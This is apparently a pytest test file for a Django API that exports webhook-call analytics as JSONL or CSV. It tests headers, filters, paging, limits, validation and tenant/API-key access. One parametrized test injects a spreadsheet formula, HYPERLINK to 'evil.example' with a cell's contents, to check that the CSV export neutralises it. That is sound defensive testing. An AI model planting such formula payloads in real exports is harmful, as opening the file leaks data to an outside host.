from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from analytics import call_export
from integrations.activity.actor import Actor
from integrations.api_keys.models import APIKey
from integrations.ids import uuid7
from integrations.models import Tenant
from integrations.scopes import Scope
from integrations.services.api_keys import create_api_key
from tests.analytics.calls import NOW, Directory, KnownWebhook, call, id_at, record, spread

MINUTE = timedelta(minutes=1)


def address(tenant: Tenant, webhook: Any = None) -> str:
    of = "analytics/calls" if webhook is None else f"{webhook}/analytics"
    return f"/api/platform/tenants/{tenant.slug}/webhooks/{of}/export"


def lines(answer: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in answer.getvalue().decode().splitlines()]


def cells(answer: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode(), newline="")))


def test_json_lines_are_what_the_list_shows(
    api: APIClient, tenant: Tenant, other_tenant: Tenant, webhook: KnownWebhook, directory: Directory
) -> None:
    made = call(
        tenant_id=tenant.id,
        target_id=webhook.id,
        attempt=2,
        request_headers={"Content-Type": "application/json"},
        response_body='{"ok": "two\\nlines"}',
        metadata={"source": "shop"},
    )
    record(
        [
            made,
            replace(made, id=id_at(NOW), attempt=1, is_final=False),
            call(tenant_id=tenant.id, timestamp=NOW - MINUTE, response_body="two\nlines\u2028and more"),
            call(tenant_id=other_tenant.id),
        ]
    )
    directory.bodies[made.event_id] = '{"order": 1042}'
    listed = api.get(address(tenant).removesuffix("/export")).json()["results"]
    answer = api.get(address(tenant))
    assert answer["Content-Type"] == "application/jsonl"
    assert answer["Content-Disposition"] == 'attachment; filename="calls-acme.jsonl"'
    assert answer["Cache-Control"] == "no-store"
    written = answer.getvalue().decode()
    assert [json.loads(line) for line in written.removesuffix("\n").split("\n")] == listed
    assert (len(listed), listed[0]["attempts"], listed[0]["request_payload"]) == (2, 2, {"order": 1042})
    assert [one["id"] for one in lines(api.get(address(tenant, webhook.name)))] == [str(made.id)]
    assert [one["id"] for one in lines(api.get(address(tenant), {"webhook": webhook.name}))] == [str(made.id)]
    assert len(lines(api.get(address(tenant), {"attempts": "all"}))) == 3


def test_csv_has_a_line_for_each_call(
    api: APIClient, tenant: Tenant, webhook: KnownWebhook, directory: Directory
) -> None:
    made = call(
        tenant_id=tenant.id,
        target_id=webhook.id,
        event_type="order.paid",
        triggered_by="checkout",
        status_code=None,
        success=False,
        error_kind="timeout",
        error_message='No "answer",\nin time.',
        response_time_ms=30_000,
        metadata={"a": "ä"},
    )
    record([made])
    answer = api.get(address(tenant), {"file_format": "csv"})
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="calls-acme.csv"'
    assert cells(answer) == [
        {
            "timestamp": NOW.isoformat().replace("+00:00", "Z"),
            "id": str(made.id),
            "webhook": str(webhook.id),
            "workflow_name": "order_created",
            "delivery": str(made.delivery_id),
            "run": "1",
            "attempt": "1",
            "attempts": "1",
            "is_final": "true",
            "event_type": "order.paid",
            "triggered_by": "checkout",
            "status_code": "",
            "response_time_ms": "30000",
            "success": "false",
            "error_kind": "timeout",
            "error_message": 'No "answer",\nin time.',
            "metadata": '{"a":"ä"}',
        }
    ]
    assert directory.asked == []


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r", "\n", "'"])
def test_no_cell_is_run_by_a_spreadsheet(api: APIClient, tenant: Tenant, directory: Directory, beginning: str) -> None:
    text = f'{beginning}HYPERLINK("http://evil.example/?"&A1)'
    record([call(tenant_id=tenant.id, triggered_by=text, error_message=text, workflow_name=text)])
    (row,) = cells(api.get(address(tenant), {"file_format": "csv"}))
    assert (row["triggered_by"], row["error_message"], row["workflow_name"]) == (f"'{text}",) * 3


def test_file_without_calls_is_empty_but_for_the_columns(api: APIClient, tenant: Tenant, directory: Directory) -> None:
    assert api.get(address(tenant)).getvalue() == b""
    assert (
        api.get(address(tenant), {"file_format": "csv"}).getvalue().decode() == ",".join(call_export.COLUMNS) + "\r\n"
    )


@pytest.mark.parametrize(("rows", "reads"), [(9, 3), (10, 4), (11, 4)])
def test_pages_are_read_by_key_one_after_the_other(
    api: APIClient,
    tenant: Tenant,
    webhook: KnownWebhook,
    monkeypatch: pytest.MonkeyPatch,
    rows: int,
    reads: int,
) -> None:
    monkeypatch.setattr(call_export, "PAGE_ROWS", 5)
    made = spread(rows, tenant_id=tenant.id, target_id=webhook.id)
    record(made)
    answer = api.get(address(tenant, webhook.id), {"file_format": "csv"})
    with CaptureQueriesContext(connection) as queries:
        pieces = iter(answer)
        next(pieces)
        next(pieces)
        record([call(tenant_id=tenant.id, target_id=webhook.id)])  # too late for this file
        rest = b"".join(pieces)
    pages = [query["sql"] for query in queries if 'ORDER BY "analytics_webhookcall"."id" DESC LIMIT 5' in query["sql"]]
    assert len(pages) == reads - 1
    assert "OFFSET" not in "".join(pages)
    assert [line.split(",")[1] for line in rest.decode().splitlines()] == [str(one.id) for one in made[::-1][5:]]


def test_no_transaction_is_open_while_a_page_is_sent(
    tenant: Tenant, directory: Directory, transactional_db: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(call_export, "PAGE_ROWS", 2)
    record(spread(5, tenant_id=tenant.id, target_id=uuid7()))
    pieces = call_export.export_calls(
        tenant=tenant,
        webhook_id=None,
        wanted=call_export.CallFilter(),
        file_format=call_export.FileFormat("text/csv", call_export.CSV_HEADER, call_export.csv_rows, False),
    )
    assert [connection.in_atomic_block for _ in pieces] == [False] * 4


def test_filters_apply(api: APIClient, tenant: Tenant, webhook: KnownWebhook) -> None:
    failed = call(tenant_id=tenant.id, target_id=webhook.id, success=False, status_code=500, error_message="Busy")
    record([failed, call(tenant_id=tenant.id, target_id=webhook.id)])
    for filters in ({"success": "false"}, {"status_class": "5xx"}, {"error": "busy"}, {"status_code": "500"}):
        for path in (address(tenant), address(tenant, webhook.id)):
            assert [one["id"] for one in lines(api.get(path, filters))] == [str(failed.id)]


def test_last_seven_days_are_exported_unless_asked_otherwise(
    api: APIClient, tenant: Tenant, directory: Directory
) -> None:
    old = call(tenant_id=tenant.id, timestamp=NOW - timedelta(days=8))
    record([old, call(tenant_id=tenant.id, timestamp=NOW - timedelta(hours=1))])
    assert len(lines(api.get(address(tenant)))) == 1
    month = {"from": (NOW - timedelta(days=30)).isoformat()}
    assert len(lines(api.get(address(tenant), month))) == 2


def test_more_calls_than_a_file_holds_are_refused_before_it_begins(
    api: APIClient, tenant: Tenant, directory: Directory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(call_export, "MAX_ROWS", 3)
    record(spread(3, tenant_id=tenant.id, target_id=uuid7()))
    assert len(lines(api.get(address(tenant)))) == 3
    record([call(tenant_id=tenant.id)])
    answer = api.get(address(tenant))
    assert (answer.status_code, answer["Content-Type"]) == (422, "application/problem+json")
    assert answer.json()["errors"] == {"from": ["These are more than 3 calls: choose a shorter period."]}


@pytest.mark.parametrize(
    ("query", "field", "reason"),
    [
        ("file_format=xlsx", "file_format", "Must be one of jsonl, csv."),
        ("from=2026-03-10T12:00:00Z&to=2026-03-09T12:00:00Z", "to", "later than `from`"),
        ("from=2026-01-01T00:00:00Z&to=2026-02-02T00:00:00Z", "from", "31 days"),
        ("from=2999-01-01T00:00:00Z", "from", "past"),
        ("from=2026-01-01T00:00:00Z&to=2026-01-10T00:00:00Z&error=x", "from", "7 days at most"),
        ("cursor=x", "cursor", "no such field"),
        ("page_size=5", "page_size", "no such field"),
        ("success=maybe", "success", "boolean"),
    ],
)
def test_wrong_parameter_is_named(
    api: APIClient, tenant: Tenant, webhook: KnownWebhook, query: str, field: str, reason: str
) -> None:
    for path in (address(tenant), address(tenant, webhook.id)):
        answer = api.get(f"{path}?{query}")
        assert (answer.status_code, list(answer.json()["errors"])) == (422, [field])
        assert reason in answer.json()["errors"][field][0]


def test_unknown_webhook_is_refused(api: APIClient, tenant: Tenant, directory: Directory) -> None:
    assert api.get(address(tenant, "unheard_of")).status_code == 404
    answer = api.get(address(tenant), {"webhook": "unheard_of"})
    assert (answer.status_code, answer.json()["errors"]) == (422, {"webhook": ["There is no such webhook."]})


def test_tenant_exports_its_own_calls_with_a_key(
    admin_actor: Actor, tenant: Tenant, other_tenant: Tenant, directory: Directory
) -> None:
    mine, theirs = call(tenant_id=tenant.id), call(tenant_id=other_tenant.id)
    record([mine, theirs])
    issued = create_api_key(
        actor=admin_actor, tenant=tenant, access=None, name="reports", scopes=[Scope.ANALYTICS_READ]
    )
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {issued.text}")
    found = lines(client.get("/api/v1/webhooks/analytics/calls/export"))
    assert [one["id"] for one in found] == [str(mine.id)]
    APIKey.objects.filter(id=issued.key.id).update(scopes=["webhooks:read"])
    assert client.get("/api/v1/webhooks/analytics/calls/export").status_code == 403
